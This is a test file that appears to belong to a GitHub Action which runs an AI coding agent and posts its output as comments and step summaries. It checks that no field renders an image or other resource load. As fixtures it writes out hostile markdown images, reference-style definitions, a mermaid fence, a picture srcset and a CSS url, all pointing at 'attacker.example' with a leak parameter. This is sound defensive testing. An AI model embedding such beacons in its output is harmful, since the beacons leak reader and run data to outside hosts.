/**
 * No image, anywhere (an image in a body tells its host who read it and when). Whatever the agent
 * or the stream put in ANY field, no body Narrator renders as markdown (the live comment at every
 * cap level, mid-run and final; the step summary at every cap level; the refusal comment) makes a
 * reader's browser load anything: rendered by a real markdown renderer (markdown-it, raw HTML on)
 * and sanitized like GitHub (test/support/github-markdown.ts), the HTML has no element or attribute
 * that fetches, and no diagram/map/model block of the agent's. Links are fine; loading is not.
 *
 * Before the fix only the final answer went through the image neutralizer: the `examples` below
 * (error reason, todo item, the Now: line's tool description, a table cell) each rendered an
 * `<img src="https://attacker.example/…">`.
 */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { refusalBody } from '../../src/action/gate/authorize.js';
import { createRedactor } from '../../src/redact/redact.js';
import { commentBodies, commentMarker, renderComment } from '../../src/report/comment.js';
import { renderStepSummary, stepSummaryBodies } from '../../src/report/step-summary.js';
import { emptySummary, type RunSummary } from '../../src/run/summary.js';
import { call } from '../report/hand-written-summaries.js';
import {
  RENDERED_LANGUAGES,
  renderedBlocks,
  renderGitHubHtml,
  renderMarkdownRaw,
  resourceLoads,
} from '../support/github-markdown.js';
import { ATTACKER, hostile, hostileSummary, SUMMARY_KEYS } from '../support/hostile-summary.js';

const { redact } = createRedactor({ secrets: ['Hunter2-secret-VALUE-42'] });
const IMAGE = `![status](${ATTACKER}/p.png?leak=DATA)`;

function commentCtx(now = 5_000) {
  return {
    now,
    marker: commentMarker('k'),
    redact,
    runUrl: 'https://github.com/o/r/actions/runs/1',
    stepSummaryUrl: 'https://github.com/o/r/actions/runs/1#summary',
  };
}

/** What a reader's browser would load for this markdown body (raw render and GitHub-sanitized). */
function loads(body: string): string[] {
  return [...resourceLoads(renderMarkdownRaw(body)), ...resourceLoads(renderGitHubHtml(body))];
}

/** Diagram/map/model blocks in the body that are not our own step-summary timeline. */
function foreignBlocks(body: string): string[] {
  return renderedBlocks(renderMarkdownRaw(body))
    .filter((b) => !(b.language === 'mermaid' && b.text.startsWith('gantt\n  dateFormat x')))
    .map((b) => `${b.language}: ${b.text.slice(0, 80)}`);
}

function assertInert(body: string, where: string): void {
  expect(loads(body), where).toEqual([]);
  expect(foreignBlocks(body), where).toEqual([]);
}

/** Every body a sink may send: redacted again after rendering, as src/sinks/comment/live.ts does. */
function allCommentBodies(s: RunSummary, now?: number): string[] {
  return [...commentBodies(s, commentCtx(now))].map((b) => redact(b));
}

function allStepSummaries(s: RunSummary): string[] {
  return [...stepSummaryBodies(s, { redact })];
}

const running = (partial: Partial<RunSummary>): RunSummary => ({
  ...emptySummary('claude-code'),
  startedAt: 0,
  lastEventAt: 4_000,
  ...partial,
});
const finished = (partial: Partial<RunSummary>): RunSummary => ({
  ...running({}),
  status: 'finished',
  outcome: 'error',
  isError: true,
  durationMs: 4_000,
  ...partial,
});

const RETRY = {
  attempt: 1,
  maxRetries: 10,
  delayMs: 500,
  httpStatus: 529,
  category: 'overloaded',
  message: null,
  at: 1_000,
};

describe('the places the attack got an image through', () => {
  const examples: Array<[string, RunSummary]> = [
    ['an error reason', finished({ errorMessage: `Tests failed ${IMAGE}` })],
    ['a stderr tail as the reason', finished({ stderrTail: IMAGE })],
    [
      'a todo item (live plan and final plan)',
      running({ todos: [{ id: null, content: `Fix it ${IMAGE}`, status: 'in_progress' }] }),
    ],
    [
      'a tool description on the live Now: line',
      running({
        toolCalls: [
          call({
            id: 't1',
            name: 'Bash',
            status: 'pending',
            input: { command: 'npm test', description: IMAGE },
            durationMs: null,
            endedAt: null,
            startedAt: 1_000,
          }),
        ],
      }),
    ],
    ['a table cell (the tool name)', finished({ toolCalls: [call({ id: 't1', name: IMAGE })] })],
    ['the model in the header', running({ model: IMAGE })],
    ['a retry message', finished({ retries: [{ ...RETRY, message: IMAGE }] })],
    // Shown cut at 40 characters: a short image fits.
    ['the rate-limit status', running({ rateLimit: { status: `![x](${ATTACKER}/r)`, resetsAt: null } })],
    [
      'a failed tool output in the step summary (already safe before: a regression check)',
      finished({ toolCalls: [call({ id: 't1', name: 'Bash', status: 'error', outputPreview: IMAGE })] }),
    ],
  ];

  test.each(examples)('%s: the comment (every level) and the step summary load nothing', (_, s) => {
    const comments = [renderComment(s, commentCtx()), ...allCommentBodies(s)];
    for (const [i, body] of comments.entries()) assertInert(body, `comment ${i}`);
    const summaries = [renderStepSummary(s, { redact }), ...allStepSummaries(s)];
    for (const [i, body] of summaries.entries()) assertInert(body, `step summary ${i}`);
    // The image is still there to read, as a link or text: links are fine, loading is not.
    const shown = [comments[0]!, summaries[0]!].map(renderGitHubHtml).join('\n');
    expect(shown).toContain(ATTACKER);
  });

  test('a reference-style image whose definition sits in another field', () => {
    const s = finished({
      errorMessage: 'see ![chart][leak]',
      todos: [{ id: null, content: `[leak]: ${ATTACKER}/r.png`, status: 'pending' }],
      finalText: `\n[leak]: ${ATTACKER}/r.png\n`,
      toolCalls: [
        call({ id: 't1', name: '![x][leak]', status: 'error', outputPreview: `[leak]: ${ATTACKER}/o.png` }),
      ],
    });
    for (const body of [...allCommentBodies(s), ...allStepSummaries(s)]) assertInert(body, body.slice(0, 60));
  });

  test("an agent's diagram fence (mermaid can draw images) is shown as code, not drawn", () => {
    const fences = [
      '```mermaid\nflowchart LR\n  A@{ img: "https://attacker.example/m.png" }\n```',
      '~~~ GeoJSON\n{}\n~~~',
      '```&#109;ermaid\ngraph TD\n```',
      '- ```stl\n  solid\n  ```',
      '> ```topojson\n> {}\n> ```',
    ];
    for (const fence of fences) {
      const s = finished({ outcome: 'success', isError: false, finalText: `Here:\n\n${fence}\n` });
      const comments = allCommentBodies(s);
      const summaries = allStepSummaries(s);
      for (const body of [...comments, ...summaries]) expect(foreignBlocks(body), fence).toEqual([]);
      // Still there in the fullest bodies, as code.
      for (const body of [comments[0]!, summaries[0]!])
        expect(renderMarkdownRaw(body), fence).toMatch(/<code/);
    }
  });
});

describe('no image in any field of a hostile summary, at any cap level', () => {
  test('the generator sets every field of RunSummary', () => {
    expect([...SUMMARY_KEYS].sort()).toEqual(Object.keys(emptySummary()).sort());
  });

  test('the live comment: every cap level and the minimal body, running and finished', () => {
    fc.assert(
      fc.property(hostileSummary, fc.nat({ max: 2_000_000 }), (s, now) => {
        for (const [i, body] of allCommentBodies(s, now).entries()) assertInert(body, `level ${i}`);
      }),
      { numRuns: 120 },
    );
  });

  test('the step summary: every cap level and the minimal body', () => {
    fc.assert(
      fc.property(hostileSummary, (s) => {
        for (const [i, body] of allStepSummaries(s).entries()) assertInert(body, `level ${i}`);
      }),
      { numRuns: 60 },
    );
  });

  test('the refusal comment', () => {
    fc.assert(
      fc.property(hostile(6), hostile(12), hostile(12), hostile(3), (actor, reason, remedy, event) => {
        const body = refusalBody(commentMarker('refused k'), event, {
          allowed: false,
          actor: actor || null,
          reason,
          remedy,
        });
        assertInert(body, 'refusal');
      }),
      { numRuns: 300 },
    );
  });

  test('the checker itself sees what it must: an image, a <picture>, a style, a diagram', () => {
    expect(loads(`x ${IMAGE}`)).not.toEqual([]);
    expect(loads(`![a][r]\n\n[r]: ${ATTACKER}/r.png`)).not.toEqual([]);
    expect(loads(`<picture><source srcset="${ATTACKER}/s.png"></picture>`)).not.toEqual([]);
    expect(
      resourceLoads(renderMarkdownRaw(`<div style="background:url(${ATTACKER}/b)">x</div>`)),
    ).not.toEqual([]);
    expect(foreignBlocks('```mermaid\ngraph TD\n```')).not.toEqual([]);
    expect(RENDERED_LANGUAGES.has('mermaid')).toBe(true);
  });
});
